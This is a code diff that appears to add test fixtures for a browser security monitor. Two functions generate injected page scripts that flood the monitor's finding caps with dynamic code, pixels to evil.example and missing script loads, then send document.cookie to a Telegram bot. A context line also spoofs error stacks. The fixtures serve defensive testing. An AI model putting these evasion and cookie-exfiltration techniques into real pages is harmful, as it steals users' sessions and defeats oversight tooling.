@@ -198,3 +198,32 @@ export const LYING_STACK = `(() => {
   step('lying stack', () => Object.defineProperty(Error.prototype, 'stack', { get: () => 'Error\\n    at ' + shop + '\\nrun@' + shop + '\\n', set() {}, configurable: true }));
   window.__stackLies = true;
 })();`;
+
+/**
+ * A flood: 10,000 pieces of code compiled from strings (each one a dynamic-code finding) and 300 pixels to
+ * 300 different addresses (each one a distinct exfiltration verdict, past the per-tab verdict cap), then,
+ * three seconds later, the helper's real work — which must not be crowded out.
+ */
+export function floodThenAttack(tag: string): string {
+  return `window.addEventListener('load', () => setTimeout(() => {
+  ${PRELUDE}
+  step('flood: dynamic code', () => { for (let i = 0; i < 10000; i++) new Function('return ' + i + ' /* flood */'); });
+  step('flood: pixels', () => { for (let i = 0; i < 300; i++) new Image().src = 'https://evil.example/p' + i + '.gif'; });
+  window.__flooded = true;
+  setTimeout(() => { ${helperAttack('page', tag)} }, 3000);
+}, 100));`;
+}
+
+/**
+ * A quiet flood: 1,100 script elements (past the relay's 1,024 cap) for the shop's own (missing) files — findings no rule flags —
+ * then, in the same task, the cookies to a Telegram bot. Saq's relay caps what it queues per flush;
+ * the exfiltration must not be the finding that gets dropped.
+ */
+export function quietFloodThenExfiltrate(tag: string): string {
+  return `window.addEventListener('load', () => setTimeout(() => {
+  ${PRELUDE}
+  step('quiet flood', () => { for (let i = 0; i < 1100; i++) { const s = document.createElement('script'); s.src = '/static/none-' + i + '.js'; document.head.appendChild(s); } });
+  step('exfiltration', () => fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }));
+  window.__flooded = true;
+}, 100));`;
+}
